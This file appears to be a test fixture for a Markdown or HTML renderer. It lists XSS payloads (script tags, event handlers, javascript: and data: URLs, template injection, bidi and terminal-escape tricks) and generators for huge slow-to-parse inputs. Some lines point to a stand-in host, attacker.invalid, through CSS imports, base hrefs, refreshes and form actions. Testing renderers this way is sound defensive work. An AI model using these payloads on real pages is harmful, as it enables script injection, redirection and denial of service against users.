// Texts that are made to break a page: markup that must stay text, and texts that are slow to read.

/** Each would set `window.hacked`, load from elsewhere or change the page if it became more than text. */
export const HTML_CORPUS = [
  '<img src=x onerror="window.hacked=1">',
  '<script>window.hacked=1</script>',
  '<svg onload="window.hacked=1"><animate onbegin="window.hacked=1" attributeName=x dur=1s>',
  '<iframe src="javascript:parent.hacked=1"></iframe><iframe srcdoc="<script>parent.hacked=1</script>">',
  '<style>@import "http://attacker.invalid/a.css"; body { display: none }</style>',
  '<link rel=stylesheet href="http://attacker.invalid/b.css"><base href="http://attacker.invalid/">',
  '<meta http-equiv=refresh content="0;url=http://attacker.invalid/">',
  '<form action="http://attacker.invalid/"><button autofocus onfocus="window.hacked=1">Log in</button></form>',
  '<a href="javascript:window.hacked=1" id=page name=page>click</a><object data="http://attacker.invalid/c.swf">',
  '![picture](http://attacker.invalid/d.png) ![x](x "onerror=window.hacked=1")',
  '[click](javascript:window.hacked=1) [data](data:text/html,<script>window.hacked=1</script>) [vb](vbscript:x)',
  '[a](JaVaScRiPt&colon;window.hacked=1) [b](&#106;avascript:window.hacked=1) <javascript:window.hacked=1>',
  '[ref]: javascript:window.hacked=1\n[ref]',
  '```html"><img src=x onerror=window.hacked=1>\n</pre><script>window.hacked=1</script>\n```',
  '`</code><script>window.hacked=1</script>` {{constructor.constructor("window.hacked=1")()}} #{window.hacked=1}',
  '| <img src=x onerror=window.hacked=1> | b |\n|---|---|\n| <video><source onerror=window.hacked=1> | ]]> |',
  "\"><script>window.hacked=1</script> '-alert(1)-' &lt;script&gt; <!--><script>window.hacked=1</script>-->",
  'admin\u202egnp.exe \u200bzero\u200bwidth \u2066isolate\u2069 \u0007bell \u001b[31mred\u001b]52;c;aGk=\u0007',
];

const KILOBYTES = 256 * 1024;
const fill = (piece) => piece.repeat(Math.ceil(KILOBYTES / piece.length)).slice(0, KILOBYTES);

/** A quarter of a megabyte each, and slow for a reader that goes back. */
export const HOSTILE_TEXTS = [
  { name: 'brackets', make: () => fill('[') },
  { name: 'links that never end', make: () => fill('[a](') },
  { name: 'stars', make: () => fill('*a_b') },
  { name: 'backticks', make: () => Array.from({ length: 700 }, (_, count) => '`'.repeat(count)).join(' ') },
  { name: 'quotes in quotes', make: () => fill('> ') },
  {
    name: 'lists in lists',
    make: () => Array.from({ length: 700 }, (_, count) => `${' '.repeat(count)}- a`).join('\n'),
  },
  { name: 'a table of pipes', make: () => `${'|a'.repeat(800)}\n${'|-'.repeat(800)}\n${fill('|')}` },
  {
    name: 'code that is slow to colour',
    make: () => `\`\`\`js\n${'/*'.repeat(8000)}\n\`\`\`\n${fill('`a')}`,
  },
  { name: 'one word', make: () => fill('W') },
];
